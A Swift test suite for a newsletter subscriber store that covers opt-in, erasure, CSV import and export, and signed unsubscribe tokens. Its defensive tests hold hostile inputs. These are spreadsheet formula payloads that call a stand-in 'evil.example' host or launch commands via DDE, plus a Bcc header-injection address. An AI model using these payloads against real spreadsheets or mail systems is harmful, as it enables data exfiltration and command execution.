import Foundation
import GRDB
import HogMail
import PostgresTestSupport
import Testing

@testable import HogMailStore

func temporaryStore() throws -> (SubscriberStore, URL) {
    let folder = FileManager.default.temporaryDirectory.appendingPathComponent("hogmail-store-\(UUID().uuidString)")
    let path = folder.appendingPathComponent("hogmail.sqlite")
    return (try SubscriberStore(path: path.path), folder)
}

/// A new, empty store on `engine`: a new SQLite file, or a new database on the PostgreSQL test
/// server (left for scripts/with-postgres.sh to remove with its cluster), with its local files
/// in a folder of its own.
func temporaryStore(_ engine: StoreEngineKind) throws -> SubscriberStore {
    switch engine {
    case .sqlite:
        return try temporaryStore().0
    case .postgres:
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("hogmail-store-\(UUID().uuidString)")
        return try PostgresTestServer.store(.postgres, folder: folder)
    }
}

let formConsent = Subscriber.Consent(at: Date(timeIntervalSince1970: 1_767_000_000), method: .form, source: "https://newsletter.example.com/subscribe",
                                     text: "Send me HogMail.", ip: "127.0.0.1", userAgent: "test")

/// A new store with `addresses` subscribed through the form and confirmed, and a send frozen
/// to them (with `messageIDs`, if given); its recipients in order.
func frozenSend(_ engine: StoreEngineKind = .sqlite, to addresses: [String] = ["ada@example.com", "bob@example.com"], names: [String?]? = nil,
                messageIDs: ((Int64) -> @Sendable (String) -> String)? = nil) throws -> (SubscriberStore, SendRecord, [SendRecipient]) {
    let store = try temporaryStore(engine)
    for (index, address) in addresses.enumerated() {
        let (subscriber, _) = try store.requestSubscription(email: address, name: names?[index], consent: formConsent, actor: "form")
        try store.confirm(publicID: subscriber.publicID)
    }
    let send = try store.freezeSend(issue: "1", contentHash: "abc", messageIDs: messageIDs)
    return (store, send, try store.dueRecipients(of: send, limit: 10))
}

@Suite struct SubscriberStoreTests {
    /// A page of a million-recipient send must not find and sort every pending row.
    @Test func theNextPageOfPendingRecipientsIsReadOffAnIndexInOrderWithoutSorting() throws {
        let (store, folder) = try temporaryStore()
        defer { try? FileManager.default.removeItem(at: folder) }
        let plan = try store.database.read { db in
            try Row.fetchAll(db, sql: "EXPLAIN QUERY PLAN " + SubscriberStore.pendingPageSQL, arguments: [0, 1, 500]).map { $0["detail"] as String }
        }
        #expect(plan == ["SEARCH send_recipient USING INDEX send_recipient_pending (send_id=? AND id>?)"])
    }

    @Test func addressesAreNormalisedKeepingTheLocalPart() {
        #expect(Subscriber.normalize("  Ada.Lovelace@Example.COM ") == "Ada.Lovelace@example.com")
        #expect(Subscriber.normalize("not an address") == nil)
    }

    @Test(arguments: PostgresTestServer.engines)
    func doubleOptInRecordsConsentAndConfirmation(engine: StoreEngineKind) throws {
        try withTemporaryStore(engine) { (store, _) throws in
            let (pending, outcome) = try store.requestSubscription(email: "ada@example.com", name: "Ada", consent: formConsent, actor: "form")
            #expect(outcome == .needsConfirmation)
            #expect(pending.status == .pending)
            let confirmed = try store.confirm(publicID: pending.publicID, now: Date(timeIntervalSince1970: 1_767_000_100))
            #expect(confirmed?.status == .confirmed)
            #expect(confirmed?.consent.confirmedAt == Date(timeIntervalSince1970: 1_767_000_100))
            #expect(confirmed?.consent.ip == "127.0.0.1")
            #expect(try store.events(of: confirmed!).map(\.to) == [.pending, .confirmed])
        }
    }

    @Test(arguments: PostgresTestServer.engines)
    func confirmedSubscriberAskingAgainIsLeftAlone(engine: StoreEngineKind) throws {
        try withTemporaryStore(engine) { (store, _) throws in
            let (s, _) = try store.requestSubscription(email: "ada@example.com", name: nil, consent: formConsent, actor: "form")
            try store.confirm(publicID: s.publicID)
            #expect(try store.requestSubscription(email: "ada@example.com", name: nil, consent: formConsent, actor: "form").1 == .alreadyConfirmed)
        }
    }

    @Test(arguments: PostgresTestServer.engines)
    func unsubscribingIsIdempotentAndLogged(engine: StoreEngineKind) throws {
        try withTemporaryStore(engine) { (store, _) throws in
            let (s, _) = try store.requestSubscription(email: "ada@example.com", name: nil, consent: formConsent, actor: "form")
            try store.confirm(publicID: s.publicID)
            try store.suppress(publicID: s.publicID, as: .unsubscribed, actor: "one-click", reason: "test")
            try store.suppress(publicID: s.publicID, as: .unsubscribed, actor: "one-click", reason: "test")
            let events = try store.events(of: try store.subscriber(email: "ada@example.com")!)
            #expect(events.map(\.to) == [.pending, .confirmed, .unsubscribed])
            #expect(events.last?.actor == "one-click")
            #expect(try store.isSuppressed("ADA@example.com"))
            #expect(try store.counts() == [.unsubscribed: 1])
        }
    }

    /// A confirmed new opt-in is the one way back, and it lifts the suppression.
    @Test(arguments: PostgresTestServer.engines)
    func aNewOptInAfterLeavingIsConfirmedAndLiftsTheSuppression(engine: StoreEngineKind) throws {
        try withTemporaryStore(engine) { (store, _) throws in
            let (s, _) = try store.requestSubscription(email: "ada@example.com", name: "Ada", consent: formConsent, actor: "form")
            try store.confirm(publicID: s.publicID)
            try store.suppress(email: "ada@EXAMPLE.com", as: .unsubscribed, actor: "one-click", reason: "left", sendID: 7)
            let (again, outcome) = try store.requestSubscription(email: "ada@example.com", name: nil, consent: formConsent, actor: "form")
            #expect(outcome == .needsConfirmation && again.status == .pending && again.name == "Ada")
            #expect(try store.isSuppressed("ada@example.com"))
            try store.confirm(publicID: again.publicID)
            #expect(try !store.isSuppressed("ada@example.com"))
            let events = try store.events(of: again)
            #expect(events.map(\.to) == [.pending, .confirmed, .unsubscribed, .pending, .confirmed])
            #expect(events.count == 5 && events[2].sendID == 7)
        }
    }

    @Test(arguments: PostgresTestServer.engines)
    func subscribersAreListedInOrderByStatusPageAfterPage(engine: StoreEngineKind) throws {
        try withTemporaryStore(engine) { (store, _) throws in
            for i in 0..<1_203 {
                let (s, _) = try store.requestSubscription(email: "r\(i)@example.com", name: nil, consent: formConsent, actor: "cli")
                if i.isMultiple(of: 3) { try store.confirm(publicID: s.publicID) }
            }
            var all: [String] = []
            try store.forEach { all.append($0.email) }
            #expect(all == (0..<1_203).map { "r\($0)@example.com" })
            var confirmed = 0
            try store.forEach(status: .confirmed) { #expect($0.status == .confirmed); confirmed += 1 }
            #expect(confirmed == 401)
            #expect(try store.counts() == [.confirmed: 401, .pending: 802])
            #expect(try store.subscriber(publicID: try #require(try store.subscriber(email: "r3@example.com")).publicID)?.email == "r3@example.com")
        }
    }

    @Test func forgetLeavesNoTraceOfTheAddressInTheFile() throws {
        let (store, folder) = try temporaryStore()
        let (s, _) = try store.requestSubscription(email: "grace.hopper@example.com", name: "Grace Hopper", consent: formConsent, actor: "form")
        try store.confirm(publicID: s.publicID)
        #expect(try store.forget(email: "grace.hopper@example.com").found)
        #expect(try store.subscriber(email: "grace.hopper@example.com") == nil)
        for name in try FileManager.default.contentsOfDirectory(atPath: folder.path) {
            let bytes = try Data(contentsOf: folder.appendingPathComponent(name))
            #expect(bytes.range(of: Data("grace.hopper".utf8)) == nil, "\(name) still holds the address")
            #expect(bytes.range(of: Data("Grace Hopper".utf8)) == nil, "\(name) still holds the name")
        }
        #expect(try store.isSuppressed("grace.hopper@example.com"))
    }
}

@Suite struct ImportTests {
    func write(_ csv: String) throws -> URL {
        let url = FileManager.default.temporaryDirectory.appendingPathComponent("import-\(UUID().uuidString).csv")
        try Data(csv.utf8).write(to: url)
        return url
    }

    let csv = """
    email,name,consented_at,consent_source,confirmed_at,ip
    ada@example.com,Ada,2025-03-01,signup form at example.com,2025-03-01T10:05:00Z,192.0.2.1
    "grace@example.com","Hopper, Grace",2025-03-02,signup form at example.com,,
    not-an-address,X,2025-03-01,form,2025-03-01,
    linus@example.com,Linus,,,,
    ada@example.com,Ada again,2025-03-01,form,2025-03-01,
    edsger@example.com,Edsger,yesterday,form,,
    barbara@example.com,Barbara,2025-03-05,form,2025-03-04,
    forgotten@example.com,F,2025-03-01,form,2025-03-01,

    """

    @Test(arguments: PostgresTestServer.engines)
    func importCountsEveryKindOfRowWithItsNumber(engine: StoreEngineKind) throws {
        let store = try temporaryStore(engine)
        try store.forget(email: "forgotten@example.com")
        let report = try store.importCSV(at: try write(csv), displayPath: "list.csv")
        #expect(report.confirmed == 1)
        #expect(report.pending == 1)
        #expect(report.refused == [.invalidAddress: 1, .noConsent: 1, .duplicate: 1, .badDate: 2, .suppressed: 1])
        #expect(report.problems.map(\.row) == [4, 5, 6, 7, 8, 9])
        #expect(try store.subscriber(email: "grace@example.com")?.name == "Hopper, Grace")
        #expect(try store.subscriber(email: "ada@example.com")?.consent.source == "signup form at example.com (imported from list.csv, row 2)")
        #expect(try store.counts() == [.confirmed: 1, .pending: 1])
    }

    @Test(arguments: PostgresTestServer.engines)
    func dryRunWritesNothing(engine: StoreEngineKind) throws {
        let store = try temporaryStore(engine)
        let report = try store.importCSV(at: try write(csv), displayPath: "list.csv", dryRun: true)
        #expect(report.confirmed == 2)  // nobody was forgotten in this store, so the last row counts too
        #expect(try store.counts().isEmpty)
    }

    @Test(arguments: PostgresTestServer.engines)
    func failedImportLeavesTheStoreAsItWas(engine: StoreEngineKind) throws {
        let store = try temporaryStore(engine)
        try store.requestSubscription(email: "before@example.com", name: nil, consent: formConsent, actor: "form")
        let broken = "email,consented_at,consent_source,confirmed_at\nnew@example.com,2025-01-01,form,2025-01-01\n\"unclosed@example.com,2025-01-01,form,\n"
        #expect(throws: HogMailError.self) { try store.importCSV(at: try write(broken), displayPath: "broken.csv") }
        #expect(try store.subscriber(email: "new@example.com") == nil)
        #expect(try store.counts() == [.pending: 1])
    }

    /// Rows go to the store in batches (500 on PostgreSQL, 256 on SQLite): duplicates within a
    /// batch and across batches, suppressed addresses and refused rows land on both sides of
    /// each boundary, and the report still reads in the file's order.
    @Test(arguments: PostgresTestServer.engines)
    func aLongFileIsImportedInBatchesWithTheSameVerdictsInTheFilesOrder(engine: StoreEngineKind) throws {
        let store = try temporaryStore(engine)
        for gone in [3, 499, 501, 700] { try store.forget(email: "p\(gone)@example.com") }
        var lines = ["email,name,consented_at,consent_source,confirmed_at"]
        var expected: [Int] = []  // rows refused, in file order
        let suppressed: Set = [3, 499, 501, 700]
        func secondOfAPair(_ i: Int) -> Bool { i % 250 == 1 && i > 1 && i < 1_000 }
        func plain(_ i: Int) -> Bool {
            if suppressed.contains(i) || i % 97 == 0 || secondOfAPair(i) { return false }
            return i < 1_000
        }
        for i in 1...1_200 {
            let row = lines.count + 1
            if suppressed.contains(i) {
                expected.append(row)
                lines.append("p\(i)@example.com,P,2025-03-01,form,2025-03-01")
            } else if i % 97 == 0 {
                expected.append(row)
                lines.append("not an address \(i),X,2025-03-01,form,2025-03-01")
            } else if secondOfAPair(i) {
                // The address of the row before: a duplicate in the same batch or the next one.
                expected.append(row)
                lines.append("p\(i - 1)@example.com,Second,2025-03-01,form,2025-03-01")
            } else if i >= 1_000 && plain(i - 900) {
                // A duplicate of a row two batches back.
                expected.append(row)
                lines.append("p\(i - 900)@example.com,Again,2025-03-01,form,2025-03-01")
            } else {
                lines.append("p\(i)@example.com,P\(i),2025-03-01,form,2025-03-01")
            }
        }
        let report = try store.importCSV(at: try write(lines.joined(separator: "\n") + "\n"), displayPath: "long.csv")
        let refused = report.refused.values.reduce(0, +)
        #expect(report.confirmed + refused == 1_200)
        #expect(report.refused[.suppressed] == 4)
        #expect(report.refused[.invalidAddress] == 12)
        #expect(report.refused[.duplicate] == expected.count - 16)
        #expect(report.problems.map(\.row) == Array(expected.prefix(ImportReport.problemLimit)))
        #expect(try store.subscriber(email: "p250@example.com")?.name == "P250")
        #expect(try store.subscriber(email: "p3@example.com") == nil)
        let events = try store.engine.read { try $0.value(Int.self, "SELECT COUNT(*) FROM subscriber_event WHERE actor = 'import'") }
        #expect(events == report.confirmed)
        #expect(try store.counts() == [.confirmed: report.confirmed])
    }

    @Test func fileWithoutEmailColumnIsExplained() throws {
        let (store, _) = try temporaryStore()
        do {
            _ = try store.importCSV(at: try write("mail,name\na@example.com,A\n"), displayPath: "x.csv")
            Issue.record("expected an error")
        } catch let error as HogMailError {
            #expect(error.line == 1)
            #expect(error.message.contains("no `email` column"))
        }
    }
}

@Suite struct TokenTests {
    let signer = TokenSigner(secret: String(repeating: "k", count: 40), listID: "hogmail.example.com")

    @Test func unsubscribeTokenRoundTrips() throws {
        let token = signer.unsubscribeToken(publicID: "abc123")
        #expect(try signer.verify(token, purpose: .unsubscribe) == "abc123")
        #expect(!token.contains("@"))
    }

    @Test func forgedTruncatedAndOtherPurposeTokensFail() {
        let token = signer.unsubscribeToken(publicID: "abc123")
        #expect(throws: TokenSigner.Failure.forged) { try signer.verify(token.replacingOccurrences(of: "abc123", with: "abc124"), purpose: .unsubscribe) }
        #expect(throws: TokenSigner.Failure.self) { try signer.verify(String(token.dropLast(3)), purpose: .unsubscribe) }
        #expect(throws: TokenSigner.Failure.malformed) { try signer.verify(token, purpose: .confirm) }
        let other = TokenSigner(secret: String(repeating: "z", count: 40), listID: "hogmail.example.com")
        #expect(throws: TokenSigner.Failure.forged) { try other.verify(token, purpose: .unsubscribe) }
    }

    /// A link has exactly one valid spelling: other base64 spellings of the same MAC bytes
    /// (different unused bits in the last character) are refused.
    @Test func onlyTheCanonicalSpellingOfATokenVerifies() {
        let token = signer.unsubscribeToken(publicID: "abc123")
        let alphabet = Array("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_")
        for character in alphabet where character != token.last! {
            #expect(throws: TokenSigner.Failure.self) { try signer.verify(String(token.dropLast()) + String(character), purpose: .unsubscribe) }
        }
    }

    /// Found by `make fuzz` (csv target): Foundation's date formatter trapped on a date with a
    /// combining mark; such a value is now refused as a bad date, with its row.
    @Test func aDateWithNonASCIICharactersIsRefusedNotACrash() {
        #expect(SubscriberStore.parseDate("2025-03-1\u{32B}10:00:00Z") == nil)
        #expect(SubscriberStore.parseDate("2025-03-01 10:00:00") != nil)
    }

    @Test func confirmationTokensExpire() throws {
        let now = Date(timeIntervalSince1970: 1_800_000_000)
        let token = signer.confirmationToken(publicID: "abc", expires: now.addingTimeInterval(7 * 86_400))
        #expect(try signer.verify(token, purpose: .confirm, now: now) == "abc")
        #expect(throws: TokenSigner.Failure.expired) { try signer.verify(token, purpose: .confirm, now: now.addingTimeInterval(8 * 86_400)) }
    }

    @Test func missingOrShortSecretIsAClearError() throws {
        let configuration = try Configuration.parse(Scaffold.commentedConfiguration(anchor: CalendarDate(year: 2026, month: 1, day: 7)!), file: "hogmail.yml").0
        #expect(throws: HogMailError.self) { try TokenSigner.fromEnvironment(configuration, environment: [:]) }
        do { _ = try TokenSigner.fromEnvironment(configuration, environment: ["HOGMAIL_SECRET": "short"]) } catch let error as HogMailError {
            #expect(error.message.contains("at least 32"))
            #expect(!error.message.contains("short"))
        } catch {}
    }

    /// Tokens are already in sent emails: they must stay exactly HMAC-SHA256 (RFC 2104) over
    /// `listID NUL payload`, first 16 bytes, base64url. Expected values from Python's `hmac`.
    @Test(arguments: [
        (40, "gGWDLvMtQ-ACtdlJFUFMXA"),
        (100, "6IiwTveWmB33tpUe5Q0uUw"),  // longer than SHA-256's block: the key is hashed first
    ])
    func tokensAreTheStandardHMAC(secretLength: Int, mac: String) {
        let signer = TokenSigner(secret: String(repeating: "k", count: secretLength), listID: "hogmail.example.com")
        #expect(signer.unsubscribeToken(publicID: "abc123") == "u1.abc123.\(mac)")
    }

    @Test func publicIDsAreRandom() {
        #expect(TokenSigner.newPublicID() != TokenSigner.newPublicID())
        #expect(TokenSigner.newPublicID().count == 22)
    }
}

@Suite struct ImportDateTests {
    @Test func fastPathAgreesWithISO8601() {
        let iso = ISO8601DateFormatter()
        for text in ["2025-03-01T10:05:00Z", "1999-12-31T23:59:59Z", "2024-02-29T00:00:00Z"] {
            #expect(SubscriberStore.fastDate(text) == iso.date(from: text))
        }
        #expect(SubscriberStore.fastDate("2025-03-01") == iso.date(from: "2025-03-01T00:00:00Z"))
        #expect(SubscriberStore.fastDate("2025-02-30") == nil)
        #expect(SubscriberStore.parseDate("2025-03-01T10:05:00+02:00") == iso.date(from: "2025-03-01T08:05:00Z"))
    }
}

/// Issue #11, item 2: a name saved with a line break put CRLF into the `To` header of every
/// later issue, and the send stopped there. Such names and addresses never get in.
@Suite struct HostileNameTests {
    @Test func subscribingWithALineBreakInTheNameIsRefusedWithASentence() throws {
        let (store, _) = try temporaryStore()
        do {
            try store.requestSubscription(email: "mallory@example.com", name: "M\r\nX", consent: formConsent, actor: "form")
            Issue.record("expected a refusal")
        } catch let error as HogMailError {
            #expect(error.message == "The name `M\\u{D}\\u{A}X` contains a carriage return (U+000D); a name must be one line of text without control characters. Remove it.")
        }
        #expect(try store.subscriber(email: "mallory@example.com") == nil)
    }

    @Test(arguments: ["M\nX", "M\rX", "M\u{0}X", "M\tX", "M\u{1B}[31mX", "M\u{7F}X", "M\u{85}X", "M\u{2028}X", "M\u{2029}X"])
    func controlCharactersAndLineSeparatorsInANameAreRefused(name: String) {
        #expect(Subscriber.validateName(name) != nil)
    }

    @Test(arguments: ["Ada Lovelace", "Zoë Ö'Brien, Jr.", "李小龙", "Ada 👩🏽‍💻", "=HYPERLINK(\"x\")", String(repeating: "a", count: 200)])
    func ordinaryNamesAreAccepted(name: String) {
        #expect(Subscriber.validateName(name) == nil)
    }

    @Test func aNameLongerThan200CharactersIsRefused() {
        #expect(Subscriber.validateName(String(repeating: "é", count: 201))?.contains("201 characters") == true)
        // One character made of thousands of combining marks is too long as well.
        #expect(Subscriber.validateName("a" + String(repeating: "\u{301}", count: 2_000)) != nil)
    }

    @Test func anAddressWithALineBreakIsRefusedEvenAtItsEnd() throws {
        let (store, _) = try temporaryStore()
        #expect(Subscriber.validateAddress("ada@example.com\r\n")?.contains("carriage return") == true)
        #expect(Subscriber.validateAddress(" ada@example.com ") == nil)
        #expect(throws: HogMailError.self) {
            try store.requestSubscription(email: "ada@example.com\r\nBcc: all@example.com", name: nil, consent: formConsent, actor: "form")
        }
    }

    @Test func importRefusesARowWhoseNameHasALineBreakAndKeepsTheOthers() throws {
        let (store, _) = try temporaryStore()
        let url = FileManager.default.temporaryDirectory.appendingPathComponent("import-\(UUID().uuidString).csv")
        try Data("""
            email,name,consented_at,consent_source,confirmed_at\r
            ada@example.com,Ada,2025-03-01,form,2025-03-01\r
            mallory@example.com,"M\r
            X",2025-03-01,form,2025-03-01\r
            grace@example.com,Grace,2025-03-01,form,2025-03-01\r

            """.utf8).write(to: url)
        let report = try store.importCSV(at: url, displayPath: "list.csv")
        #expect(report.confirmed == 2)
        #expect(report.refused == [.invalidName: 1])
        #expect(report.problems.map(\.row) == [3])
        #expect(report.problems.first?.reason.contains("carriage return") == true)
        #expect(try store.subscriber(email: "mallory@example.com") == nil)
    }
}

/// Issue #11, item 5: `subscribers list --format csv` wrote `=HYPERLINK(…)` as it was, and a
/// name with CRLF broke its row.
@Suite struct CSVExportTests {
    @Test func cellsThatWouldRunAsFormulasStartWithAQuote() {
        #expect(CSVWriter.field("=HYPERLINK(\"http://evil.example\",\"x\")") == "\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\"")
        #expect(CSVWriter.field("+cmd|' /C calc'!A0") == "'+cmd|' /C calc'!A0")
        #expect(CSVWriter.field("@SUM(1+1)") == "'@SUM(1+1)")
        #expect(CSVWriter.field("-2+3") == "'-2+3")
        #expect(CSVWriter.field("\tx") == "'\tx")
        #expect(CSVWriter.field("\r=1") == "\"'\r=1\"")
        #expect(CSVWriter.field("Ada Lovelace") == "Ada Lovelace")
    }

    @Test func fieldsWithQuotesCommasAndLineBreaksAreQuotedAndLinesEndInCRLF() {
        #expect(CSVWriter.line(["Hopper, Grace", "say \"hi\"", "two\r\nlines", "plain"]) == "\"Hopper, Grace\",\"say \"\"hi\"\"\",\"two\r\nlines\",plain\r\n")
    }

    @Test func theImporterTakesOffExactlyTheQuoteTheWriterAdded() {
        for value in ["=1+1", "'=1+1", "''@x", "'hello", "'", "-ada@example.com", "plain"] {
            #expect(CSVWriter.unguard(CSVWriter.field(value)) == value, "\(value)")
        }
    }

    @Test func exportImportsIntoAFreshStoreAsItWas() throws {
        let (source, folder) = try temporaryStore()
        let hostile: [(email: String, name: String, source: String, confirm: Bool)] = [
            ("ada@example.com", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "form\r\nsecond line", true),
            ("-dash@example.com", "+cmd|' /C calc'!A0", "=cmd|' /C notepad'!A0", true),
            ("grace@example.com", "Hopper, \"Amazing\" Grace", "@SUM(1+1)", false),
            ("quote@example.com", "'=already quoted", "-import, row 3", true),
            ("tab@example.com", "Zoë", "\tindented source", true),
        ]
        for person in hostile {
            let consent = Subscriber.Consent(at: Date(timeIntervalSince1970: 1_767_000_000), method: .form, source: person.source,
                                             text: "=consent \"text\"\r\nline two", ip: "+1", userAgent: "@agent")
            let (s, _) = try source.requestSubscription(email: person.email, name: person.name, consent: consent, actor: "form")
            if person.confirm { try source.confirm(publicID: s.publicID, now: Date(timeIntervalSince1970: 1_767_000_100)) }
        }
        var csv = ""
        try source.exportCSV { csv += $0 }
        let file = folder.appendingPathComponent("export.csv")
        try Data(csv.utf8).write(to: file)

        let (target, _) = try temporaryStore()
        let report = try target.importCSV(at: file, displayPath: "export.csv")
        #expect(report.refusedTotal == 0, "\(report.problems)")
        #expect(report.confirmed == 4)
        #expect(report.pending == 1)
        for person in hostile {
            let before = try #require(try source.subscriber(email: person.email))
            let after = try #require(try target.subscriber(email: person.email))
            #expect(after.name == before.name)
            #expect(after.status == before.status)
            #expect(after.consent.at == before.consent.at)
            #expect(after.consent.confirmedAt == before.consent.confirmedAt)
            #expect(after.consent.source.hasPrefix(before.consent.source + " (imported from export.csv, row "))
            #expect(after.consent.text == before.consent.text)
            #expect(after.consent.ip == before.consent.ip)
            #expect(after.consent.userAgent == before.consent.userAgent)
        }
    }

    @Test func noExportedCellStartsLikeAFormulaAndEveryRowStaysWhole() throws {
        let (store, folder) = try temporaryStore()
        let consent = Subscriber.Consent(at: Date(), method: .form, source: "=WEBSERVICE(\"http://evil.example\")\r\n@x")
        try store.requestSubscription(email: "ada@example.com", name: "@SUM(1+1)", consent: consent, actor: "form")
        var csv = ""
        try store.exportCSV { csv += $0 }
        let file = folder.appendingPathComponent("export.csv")
        try Data(csv.utf8).write(to: file)
        var reader = try CSVReader(url: file)
        defer { reader.close() }
        var records: [[String]] = []
        while let record = try reader.next() { records.append(record) }
        #expect(records.count == 2)
        #expect(records.allSatisfy { $0.count == SubscriberCSV.columns.count })
        for cell in records.joined() {
            #expect(cell.first.map { !"=+-@\t\r".contains($0) } ?? true, "\(cell)")
        }
    }

    @Test func anExportedRowOfSomeoneWhoLeftIsNotImportedAsSubscribed() throws {
        let (store, _) = try temporaryStore()
        let url = FileManager.default.temporaryDirectory.appendingPathComponent("import-\(UUID().uuidString).csv")
        try Data("email,status,consented_at,consent_source,confirmed_at\r\nleft@example.com,unsubscribed,2025-03-01,form,2025-03-01\r\nbounced@example.com,Bounced,2025-03-01,form,2025-03-01\r\n".utf8).write(to: url)
        let report = try store.importCSV(at: url, displayPath: "backup.csv")
        #expect(report.refused == [.suppressed: 2])
        #expect(try store.subscriber(email: "left@example.com") == nil)
    }
}

/// Issue #11, item 12: the store and its log were 0644, readable by every account on the machine.
@Suite struct StoreFileModeTests {
    func mode(_ path: String) -> mode_t? { PrivateFiles.mode(ofPath: path) }

    @Test func aNewStoreItsLogAndItsFolderAreForTheOwnerOnly() throws {
        let (store, folder) = try temporaryStore()
        try store.requestSubscription(email: "ada@example.com", name: "Ada", consent: formConsent, actor: "form")
        #expect(mode(folder.path) == 0o700)
        #expect(mode(store.path) == 0o600)
        #expect(mode(store.path + "-wal") == 0o600)
        #expect(mode(store.path + "-shm") == 0o600)
    }

    @Test func anOldStoreReadableByEveryoneIsClosedToOthers() throws {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("hogmail-store-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        let path = folder.appendingPathComponent("hogmail.sqlite").path
        #expect(FileManager.default.createFile(atPath: path, contents: nil, attributes: [.posixPermissions: 0o644]))
        let store = try SubscriberStore(path: path)
        #expect(mode(path) == 0o640)
        #expect(mode(path + "-wal") == 0o640)
        withExtendedLifetime(store) {}
    }
}
